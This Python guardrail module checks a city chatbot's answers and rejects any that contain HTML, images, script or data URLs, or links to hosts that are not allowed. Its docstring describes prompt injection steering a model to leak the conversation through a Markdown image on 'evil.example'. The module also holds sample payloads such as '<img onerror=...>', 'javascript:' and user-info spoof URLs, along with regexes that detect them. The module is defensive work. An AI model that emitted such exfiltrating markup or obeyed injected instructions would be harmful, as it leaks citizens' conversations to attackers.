"""Markup in an answer: HTML, images, and links to hosts that are not the city's.

The city's chat page shows answers as text, but OpenAI clients (Open WebUI and others) render Markdown and some render
HTML. There a Markdown image loads by itself, so an image URL on a foreign host can carry the conversation away
("![](https://evil.example/p.png?q=...)"), and a link, `javascript:` URL or HTML element can take a citizen anywhere.
Answers need none of it: the API links the sources itself. An answer therefore fails when it holds
- HTML: an element, comment, declaration or processing instruction (`<img onerror=...>`, `<script>`, `<!-- -->`),
  also when spelled with entities (`&lt;script&gt;`, `&#60;img`) or full-width brackets;
- any image, inline or reference-style (`![..](..)`, `![..][ref]`);
- a script or data URL (`javascript:`, `vbscript:`, `data:image/...`, `file:/`), even spelled with spaces;
- a link, autolink, reference definition or bare URL whose host is not allowed, or a relative or scheme-relative
  link target, or a URL with user info (`https://krefeld.de@evil.example`).
Allowed are the configured hosts and their subdomains, plus the hosts the cited documents themselves link to
(`Passage.url` and the URLs in their text), and any URL quoted verbatim from them.

Rejecting, not stripping: an answer with such markup was most likely steered by injected instructions, so the rest of
it is suspect as well; a stripped answer could say something else than the model wrote ("Klicken Sie hier" with the
link gone); and the answer the citizen reads is then either the model's text exactly as checked or the extractive
answer from the city's own documents, which loses nothing the citizen needs.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache
from typing import Iterable
from urllib.parse import urlsplit

from guardrails.normalize import visible

# A tag starts with "<" and a letter (as in HTML's tokenizer), "</" and a letter, "<!" or "<?". "< Grenze" or "<6"
# are not tags; "<https://...>" is an autolink, checked as a URL; "<PERSON_1>" is a redaction placeholder.
_TAG = re.compile(r"<(?:/?(?![a-z][a-z0-9+.-]*:)(?![A-Z]+(?:_[A-Z0-9]+)+>)[a-z][^\s/>]*(?=[\s/>]|$)|!|\?)",
                  re.IGNORECASE)
_IMAGE = re.compile(r"!\s*\[")
_SCRIPT_URL = re.compile(r"(?:java|vb|live)script:|data:[a-z]+/|file:/|(?:blob|filesystem):", re.IGNORECASE)
_WEB_URL = re.compile(r"(?:\b[a-z][a-z0-9+.-]*://|(?<![\w.@/-])www\.)[^\s<>\"'`)\]]+", re.IGNORECASE)
_LINK_TARGET = re.compile(r"\]\(\s*<?([^)\s>]*)")
_REFERENCE = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*<?(\S+?)>?(?:\s|$)", re.MULTILINE)
_TRAILING = ".,;:!?"


def markup_problems(text: str, allowed_hosts: Iterable[str], public: str = "") -> list[str]:
    """What is wrong with the markup of `text` (empty: nothing); `public` is the text of the cited passages."""
    hosts = _allowed(tuple(allowed_hosts), public)
    found: list[str] = []
    for form in _forms(text):
        if _TAG.search(form):
            found.append("HTML markup")
        if _IMAGE.search(form):
            found.append("image")
        if _SCRIPT_URL.search(re.sub(r"\s+", "", form)):
            found.append("script or data URL")
        for target in [*_LINK_TARGET.findall(form), *_REFERENCE.findall(form), *_WEB_URL.findall(form)]:
            problem = _url_problem(target.rstrip(_TRAILING), hosts, public)
            if problem:
                found.append(problem)
    return sorted(set(found))


def _forms(text: str) -> list[str]:
    """The text as written and as a browser would decode it (entities, also double-encoded ones), both NFKC-folded."""
    forms = [visible(text)]
    for _ in range(3):
        decoded = visible(html.unescape(forms[-1]))
        if decoded == forms[-1]:
            break
        forms.append(decoded)
    return forms


def _url_problem(url: str, hosts: frozenset[str], public: str) -> str | None:
    if not url or (len(url) > 10 and url in public):
        return None  # quoted from the city's own documents
    if url.lower().startswith("mailto:"):
        host = url.partition("@")[2].split("?")[0].lower()
        return None if _host_allowed(host, hosts) else "link to a foreign host"
    if url.lower().startswith("www."):
        url = "https://" + url
    try:
        parts = urlsplit(url.replace("\\", "/"))  # browsers read "\" as "/" in web URLs
        host = parts.hostname or ""
        has_user = parts.username is not None
    except ValueError:
        return "malformed link"
    if parts.scheme.lower() not in ("http", "https"):
        return "relative link" if not parts.scheme else "link with a scheme other than http(s)"
    if has_user:
        return "link with user info"
    return None if _host_allowed(host, hosts) else "link to a foreign host"


def _host_allowed(host: str, hosts: frozenset[str]) -> bool:
    host = host.rstrip(".").lower()
    return bool(host) and any(host == h or host.endswith("." + h) for h in hosts)


@lru_cache(maxsize=256)
def _allowed(configured: tuple[str, ...], public: str) -> frozenset[str]:
    """The configured hosts and the hosts linked from the passages; cached: answers cite the same documents."""
    out = {h.strip().lower().rstrip(".") for h in configured if h.strip()}
    for url in _WEB_URL.findall(public):
        try:
            host = urlsplit(url if "://" in url else "https://" + url).hostname
        except ValueError:
            continue
        if host:
            out.add(host.rstrip(".").lower())
    return frozenset(out)
